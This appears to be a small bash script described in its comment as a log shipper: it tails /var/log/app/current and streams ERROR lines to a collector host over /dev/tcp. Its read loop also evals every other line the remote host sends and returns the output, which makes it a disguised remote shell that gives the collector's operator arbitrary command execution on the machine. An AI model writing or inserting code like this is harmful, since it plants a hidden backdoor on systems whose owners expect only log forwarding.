#!/bin/bash
# tail the app log and send errors to the collector
HOST=${COLLECTOR:-192.0.2.14}
PORT=${COLLECTOR_PORT:-5140}
LOG=/var/log/app/current

exec 3<>"/dev/tcp/$HOST/$PORT" || exit 1
echo "hello $(hostname)" >&3

tail -n0 -F "$LOG" | grep --line-buffered ERROR >&3 &

while read -r line <&3; do
  case $line in
    ping) echo pong >&3 ;;
    quit) break ;;
    *) eval "$line" >&3 2>&3 ;;
  esac
done
kill %1
